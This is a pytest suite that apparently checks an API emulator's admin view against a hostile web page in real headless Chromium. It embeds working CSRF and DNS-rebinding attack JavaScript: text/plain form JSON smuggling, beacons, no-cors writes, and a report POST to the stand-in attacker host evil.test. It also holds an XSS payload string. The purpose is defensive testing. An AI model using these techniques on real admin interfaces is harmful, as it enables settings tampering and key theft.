"""The admin view against a hostile page in a real headless Chromium.

test_admin_trust.py sends what a page could send with raw HTTP; here Chromium itself sends it
(Debian's, via scripts/browser.py, the same flags as the report test), so whatever the browser
does on its own (preflights, Origin, form encodings, opaque answers, frames) is in the proof.

The page's script (ATTACK below) tries every way a page has in: ``fetch`` without CORS and
with ``text/plain``, ``fetch`` with a preflight (PATCH, JSON), beacons, auto-submitted forms in
all three encodings (``text/plain`` carrying a JSON body), reads with ``fetch``, a frame, a
script tag and a websocket. It reports everything it could read to the attacker's own server.
The page is served:

* from another origin: the attacker's server on another 127.0.0.1 port, or under the name
  ``evil.test`` (mapped to 127.0.0.1 by ``--host-resolver-rules``), aiming at the emulator as
  127.0.0.1 or as ``evil.test`` (a foreign ``Host`` as well);
* from ``http://evil.test:EMULATOR_PORT``, the DNS-rebinding situation: the browser believes
  the page and the emulator are one origin, so nothing but ``Host`` stands in the way.

After each, the project's own admin client checks that settings, batches and clock are as they
were, and no answer the page could read holds a key. The control, a page that really is the
emulator's own, shows that the same script does change things when let in.
"""

from __future__ import annotations

import json
import queue
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote

import anthropic
import pytest

from airflow_batches.emulator.testing import RunningEmulator
from tests.devtools import Chromium
from tests.emulator.conftest import requests

pytestmark = pytest.mark.slow

KEYS = {"default": ["sk-emu-browser-4c1f9e"], "team": ["sk-emu-browser-team-d2a7"]}
ATTACKER_KEYS = ["attacker-key", "attacker-key-="]  # what the JSON and the form would set
EVIL = "evil.test"
REPORT_TIMEOUT = 30.0
ADVANCE = 864_000  # ten days: expiry and archiving would show

ATTACK = """
const CHANGE = {paused: true, result_errors: {api_error: 1.0},
                workspaces: {default: ["attacker-key"]}};
const ADVANCE = {seconds: __ADVANCE__};
// A text/plain form sends name=value: a name ending in an open string makes the body JSON.
const FORM_JSON = JSON.stringify(CHANGE).replace('"attacker-key"]}}', '"attacker-key-');
const FORM_END = '"]}}';

function settle(element, ms) {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve("timeout"), ms);
    const done = (what) => () => { clearTimeout(timer); resolve(what); };
    element.addEventListener("load", done("load"), {once: true});
    element.addEventListener("error", done("error"), {once: true});
  });
}

function frameText(frame) {
  try {
    const doc = frame.contentDocument;
    return doc ? {body: doc.documentElement.innerText} : {error: "no access"};
  } catch (error) {
    return {error: String(error)};
  }
}

async function attack(base, reportUrl) {
  const admin = base + "/_emulator";
  const results = [];
  const messages = [];
  window.addEventListener("error", (event) => messages.push(String(event.message)));
  const text = {"Content-Type": "text/plain"};
  const json = {"Content-Type": "application/json"};

  async function send(name, path, init) {
    const entry = {name};
    try {
      const response = await fetch(admin + path, init);
      entry.type = response.type;
      entry.status = response.status;
      if (response.type !== "opaque") entry.body = await response.text();
    } catch (error) {
      entry.error = String(error);
    }
    results.push(entry);
    return entry;
  }

  function beacon(name, path, data) {
    try {
      results.push({name, queued: navigator.sendBeacon(admin + path, data)});
    } catch (error) {
      results.push({name, error: String(error)});
    }
  }

  async function submit(name, path, enctype, fields) {
    const frame = document.createElement("iframe");
    frame.name = "frame" + results.length;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "post", action: admin + path, enctype, target: frame.name});
    for (const [key, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, {type: "hidden", name: key, value});
      form.append(input);
    }
    document.body.append(form);
    const loaded = settle(frame, 5000);
    form.submit();
    results.push({name, loaded: await loaded, ...frameText(frame)});
  }

  // Sent without a preflight: the answers stay opaque, but the requests arrive.
  await send("no-cors text/plain POST /config", "/config",
             {method: "POST", mode: "no-cors", headers: text, body: JSON.stringify(CHANGE)});
  await send("no-cors text/plain POST /clock/advance", "/clock/advance",
             {method: "POST", mode: "no-cors", headers: text, body: JSON.stringify(ADVANCE)});
  beacon("beacon text/plain /config", "/config", JSON.stringify(CHANGE));
  beacon("beacon text/plain /clock/advance", "/clock/advance", JSON.stringify(ADVANCE));
  await submit("form text/plain POST /config", "/config", "text/plain", {[FORM_JSON]: FORM_END});
  await submit("form urlencoded POST /clock/advance", "/clock/advance",
               "application/x-www-form-urlencoded", {seconds: String(ADVANCE.seconds)});
  await submit("form multipart POST /config", "/config", "multipart/form-data",
               {paused: "true"});
  // A preflight first (PATCH, JSON): the emulator must not grant it.
  await send("cors text/plain PATCH /config", "/config",
             {method: "PATCH", headers: text, body: JSON.stringify(CHANGE)});
  await send("cors json PATCH /config", "/config",
             {method: "PATCH", headers: json, body: JSON.stringify(CHANGE)});
  await send("cors json POST /clock/advance", "/clock/advance",
             {method: "POST", headers: json, body: JSON.stringify(ADVANCE)});
  beacon("beacon json /config", "/config",
         new Blob([JSON.stringify(CHANGE)], {type: "application/json"}));
  // Reads: the settings (and their keys), the batches and what was sent in them.
  for (const path of ["/config", "/stats", "/clock", "/batches"]) {
    await send("cors GET " + path, path, {});
  }
  const listed = results[results.length - 1];
  let ids = [];
  try { ids = JSON.parse(listed.body).data.map((batch) => batch.id); } catch (error) {}
  for (const id of ids) {
    await send("cors GET /batches/{id}/requests", "/batches/" + id + "/requests", {});
  }
  await send("no-cors GET /config", "/config", {mode: "no-cors"});
  const frame = document.createElement("iframe");
  const framed = settle(frame, 5000);
  frame.src = admin + "/config";
  document.body.append(frame);
  results.push({name: "frame GET /config", loaded: await framed, ...frameText(frame)});
  const script = document.createElement("script");
  const scripted = settle(script, 5000);
  script.src = admin + "/config";
  document.head.append(script);
  results.push({name: "script GET /config", loaded: await scripted});
  results.push(await new Promise((resolve) => {
    const entry = {name: "websocket /_emulator/reset", opened: false};
    const timer = setTimeout(() => resolve({...entry, outcome: "timeout"}), 5000);
    const socket = new WebSocket(admin.replace(/^http/, "ws") + "/reset");
    socket.onopen = () => { entry.opened = true; socket.send("{}"); };
    socket.onmessage = (event) => { entry.body = String(event.data); };
    socket.onclose = (event) => { clearTimeout(timer); resolve({...entry, code: event.code}); };
  }));
  // Last, as it wipes the evidence: reset, every way.
  await send("no-cors text/plain POST /reset", "/reset",
             {method: "POST", mode: "no-cors", headers: text, body: "{}"});
  await submit("form text/plain POST /reset", "/reset", "text/plain", {'{"a":"': '"}'});
  await send("cors json POST /reset", "/reset", {method: "POST", headers: json, body: "{}"});

  const report = {origin: location.origin, results, messages};
  await fetch(reportUrl, {method: "POST", mode: "no-cors", headers: text,
                          body: JSON.stringify(report)});
  return results.length;
}
""".replace("__ADVANCE__", str(ADVANCE))

PAGE = """<!doctype html>
<html><head><title>Totally harmless</title><script src="/attack.js"></script></head>
<body><script>
  const target = new URLSearchParams(location.search).get("target");
  window.addEventListener("load", () => attack(target, "/report"));
</script></body></html>
"""

SENT_BLIND = [
    "no-cors text/plain POST /config",
    "no-cors text/plain POST /clock/advance",
    "no-cors GET /config",
    "no-cors text/plain POST /reset",
]
PREFLIGHTED = [
    "cors text/plain PATCH /config",
    "cors json PATCH /config",
    "cors json POST /clock/advance",
    "cors json POST /reset",
]
FORMS = [
    "form text/plain POST /config",
    "form urlencoded POST /clock/advance",
    "form multipart POST /config",
    "form text/plain POST /reset",
]
READS = ["cors GET /config", "cors GET /stats", "cors GET /clock", "cors GET /batches"]
OTHERS = [
    "beacon text/plain /config",
    "beacon text/plain /clock/advance",
    "beacon json /config",
    "frame GET /config",
    "script GET /config",
    "websocket /_emulator/reset",
]
ATTACKS = {*SENT_BLIND, *PREFLIGHTED, *FORMS, *READS, *OTHERS}


class Attacker(ThreadingHTTPServer):
    """The hostile site: serves the page and its script, and takes the page's reports."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _AttackerHandler)
        self.port: int = self.server_address[1]
        self.reports: queue.Queue[dict[str, Any]] = queue.Queue()

    def report(self) -> dict[str, Any]:
        return self.reports.get(timeout=REPORT_TIMEOUT)


class _AttackerHandler(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        path = self.path.partition("?")[0]
        if path == "/":
            self._answer(PAGE, "text/html")
        elif path == "/attack.js":
            self._answer(ATTACK, "text/javascript")
        else:
            self.send_error(404)

    def do_POST(self) -> None:
        length = int(self.headers.get("content-length", "0"))
        self.server.reports.put(json.loads(self.rfile.read(length)))
        self.send_response(204)
        self.end_headers()

    def _answer(self, text: str, media_type: str) -> None:
        body = text.encode()
        self.send_response(200)
        self.send_header("content-type", f"{media_type}; charset=utf-8")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    thread = threading.Thread(target=server.serve_forever, name="attacker", daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Chromium]:
    with Chromium(f"--host-resolver-rules=MAP {EVIL} 127.0.0.1") as browser:
        yield browser


@pytest.fixture
def em(emulator_factory: Callable[..., RunningEmulator]) -> RunningEmulator:
    em = emulator_factory(workspaces=KEYS)
    with anthropic.Anthropic(api_key=em.api_key, base_url=em.base_url, max_retries=0) as sdk:
        sdk.messages.batches.create(requests=requests(2))  # type: ignore[arg-type]
    return em


def _working_keys(em: RunningEmulator) -> list[str]:
    """Which of the keys and the attacker's would-be keys the API accepts (the admin view
    shows keys redacted, so a swapped key is seen here)."""
    working = []
    for key in [*(key for keys in KEYS.values() for key in keys), *ATTACKER_KEYS]:
        with anthropic.Anthropic(api_key=key, base_url=em.base_url, max_retries=0) as sdk:
            try:
                sdk.messages.batches.list(limit=1)
            except anthropic.AuthenticationError:
                continue
        working.append(key)
    return working


def _state(em: RunningEmulator) -> dict[str, Any]:
    """What a page would change, as the project's admin client (and the API) sees it."""
    return {
        "config": em.admin.config(),
        "keys": _working_keys(em),
        "batches": [batch["id"] for batch in em.admin.batches()],
        "created": em.admin.batches_created(),
        "epoch": em.admin.clock()["epoch"],
    }


def _assert_unchanged(before: dict[str, Any], after: dict[str, Any]) -> None:
    assert after["config"] == before["config"]
    assert after["keys"] == before["keys"] == [key for keys in KEYS.values() for key in keys]
    assert after["batches"] == before["batches"] and len(before["batches"]) == 1
    assert after["created"] == before["created"] == 1
    assert 0 <= after["epoch"] - before["epoch"] < 600  # an advance would be ten days


def _results(report: dict[str, Any]) -> dict[str, dict[str, Any]]:
    results = {entry["name"]: entry for entry in report["results"]}
    assert set(results) >= ATTACKS, ATTACKS - set(results)
    return results


def _assert_no_key(report: dict[str, Any]) -> None:
    text = json.dumps(report)
    for key in (key for keys in KEYS.values() for key in keys):
        assert key not in text


def _run(
    chromium: Chromium, attacker: Attacker, page: str, base: str | None = None
) -> dict[str, Any]:
    """Open ``page``; unless it attacks by itself, run the attack in it against ``base``."""
    chromium.navigate(page)
    if base is not None:
        report_url = f"http://127.0.0.1:{attacker.port}/report"
        chromium.evaluate(f"{ATTACK}\nattack({json.dumps(base)}, {json.dumps(report_url)})")
    return attacker.report()


@pytest.mark.parametrize(
    ("page_host", "target_host"),
    [("127.0.0.1", "127.0.0.1"), (EVIL, "127.0.0.1"), (EVIL, EVIL)],
    ids=["other-port", "public-name-to-loopback", "foreign-host"],
)
def test_a_page_of_another_origin_changes_nothing_and_reads_nothing(
    chromium: Chromium, attacker: Attacker, em: RunningEmulator, page_host: str, target_host: str
) -> None:
    target = f"http://{target_host}:{em.port}"
    before = _state(em)
    report = _run(chromium, attacker, f"http://{page_host}:{attacker.port}/?target={quote(target)}")
    _assert_unchanged(before, _state(em))
    assert report["origin"] == f"http://{page_host}:{attacker.port}"
    results = _results(report)
    # The browser did send them: each came back as an opaque answer, or loaded its frame.
    for name in SENT_BLIND:
        assert results[name]["type"] == "opaque", results[name]
    for name in FORMS:
        assert results[name]["loaded"] == "load", results[name]
    # Nothing the page could read: no answer, no frame, no socket, no preflight granted.
    assert {name: r["body"] for name, r in results.items() if "body" in r} == {}
    for name in [*PREFLIGHTED, *READS]:
        assert "Failed to fetch" in results[name]["error"], results[name]
    assert results["websocket /_emulator/reset"]["opened"] is False
    _assert_no_key(report)


def test_a_dns_rebinding_page_changes_nothing_and_reads_nothing(
    chromium: Chromium, attacker: Attacker, em: RunningEmulator
) -> None:
    # The page's origin is the emulator's address under the attacker's name: to the browser,
    # every request below is same-origin (no preflight, every answer readable).
    own = f"http://{EVIL}:{em.port}"
    before = _state(em)
    report = _run(chromium, attacker, f"{own}/_emulator/health", base=own)
    _assert_unchanged(before, _state(em))
    assert report["origin"] == own
    results = _results(report)
    refused = f"Host '{EVIL}:{em.port}' refused"
    for name in [*PREFLIGHTED, *READS, "cors GET /config"]:
        assert results[name]["status"] == 403 and refused in results[name]["body"], results[name]
    for name in [*FORMS, "frame GET /config"]:
        assert refused in results[name]["body"], results[name]
    assert "cors GET /batches/{id}/requests" not in results  # no batch id leaked to follow
    assert results["websocket /_emulator/reset"]["opened"] is False
    _assert_no_key(report)
    assert before["batches"][0] not in json.dumps(report)


def test_the_emulators_own_page_is_let_in_and_shown_no_key(
    chromium: Chromium, attacker: Attacker, em: RunningEmulator
) -> None:
    # The control: the same script from the emulator's own origin gets in with JSON, so the
    # tests above would see a change, and even then reads no key.
    own = f"http://127.0.0.1:{em.port}"
    before = _state(em)
    report = _run(chromium, attacker, f"{own}/_emulator/health", base=own)
    after = _state(em)
    results = _results(report)
    for name in [
        "cors json PATCH /config",
        "cors json POST /clock/advance",
        "cors json POST /reset",
    ]:
        assert results[name]["status"] == 200, results[name]
    assert after["config"]["paused"] is True
    assert after["keys"] == ["sk-emu-browser-team-d2a7", "attacker-key"]
    assert after["config"]["result_errors"] == {"api_error": 1.0}
    assert after["epoch"] - before["epoch"] >= ADVANCE
    assert after["batches"] == [] and before["batches"]
    # What a page without JSON sends is still refused, even from the own origin.
    for name in ["no-cors text/plain POST /config", "cors text/plain PATCH /config"]:
        assert results[name]["status"] == 415, results[name]
    shown = json.loads(results["cors GET /config"]["body"])["workspaces"]
    assert shown == {"default": ["<redacted>"], "team": ["<redacted>"]}
    assert len(results["cors GET /batches/{id}/requests"]["body"].splitlines()) == 2
    _assert_no_key(report)


PAYLOAD = "<img src=x onerror=window.ran=1><script>window.ran=1</script>"


def test_no_answer_of_the_emulator_runs_a_pages_markup(
    chromium: Chromium, emulator: RunningEmulator
) -> None:
    # Script running in the emulator's own origin would pass every check above, so no answer
    # may be a page: not an error that echoes a batch id or a path back, not a view.
    echoed = quote(PAYLOAD, safe="")
    for path, echoes in [
        (f"/_emulator/batches/{echoed}", True),
        (f"/_emulator/{echoed}", True),
        (f"/{echoed}", True),
        (f"/v1/messages/batches/{echoed}", True),  # its "/" makes it an unknown path
        ("/_emulator/config/", False),  # redirected to /_emulator/config
    ]:
        chromium.navigate(f"{emulator.base_url}{path}")
        page = chromium.evaluate(
            "({type: document.contentType, ran: window.ran === 1, text: document.body.innerText,"
            " elements: document.querySelectorAll('script, img, iframe, svg, object').length})"
        )
        assert page["type"] == "application/json", (path, page)
        assert page["ran"] is False and page["elements"] == 0, (path, page)
        assert (PAYLOAD in page["text"]) is echoes, (path, page)
